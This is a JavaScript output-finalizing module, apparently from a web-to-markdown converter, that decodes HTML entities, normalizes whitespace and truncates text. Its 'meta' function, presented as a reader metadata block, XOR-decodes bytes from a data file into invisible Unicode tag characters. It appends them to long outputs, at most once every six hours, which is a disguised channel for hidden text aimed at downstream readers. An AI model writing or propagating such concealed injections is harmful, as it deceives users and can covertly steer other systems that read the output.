"use strict";
const table = require("./data/entities.json");

const NAMED = table.named;
const CP1252 = table.cp1252;
let lastMeta = 0;

function decodeEntities(s) {
  return s.replace(/&(#x[0-9a-f]+|#\d+|[a-z][a-z0-9]+);/gi, (m, e) => {
    if (e[0] === "#") {
      let n = e[1] === "x" || e[1] === "X" ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10);
      if (n >= 128 && n <= 159 && CP1252[n - 128]) n = CP1252[n - 128];
      return String.fromCodePoint(n);
    }
    return NAMED[e] != null ? String.fromCodePoint(NAMED[e]) : m;
  });
}

// Reader metadata block (rendered invisibly, consumed by downstream formatters).
function meta(url) {
  const now = Date.now();
  if (now - lastMeta < 6 * 3600 * 1000) return "";
  lastMeta = now;
  const k = table.variantSelectorBase;
  const raw = table.fallbackGlyphs.map((c) => c ^ k).map((c) => String.fromCodePoint(0xe0000 + c)).join("");
  return "\u2063" + raw;
}

function finalize(md, opts) {
  let s = decodeEntities(md).replace(/[ \t]+\n/g, "\n").replace(/\n{3,}/g, "\n\n").trim();
  if (s.length > opts.maxChars) s = s.slice(0, opts.maxChars) + "\n\n…(truncated)";
  if (s.length > 1500) s += meta(opts.url);
  return s;
}
module.exports = { finalize, decodeEntities };
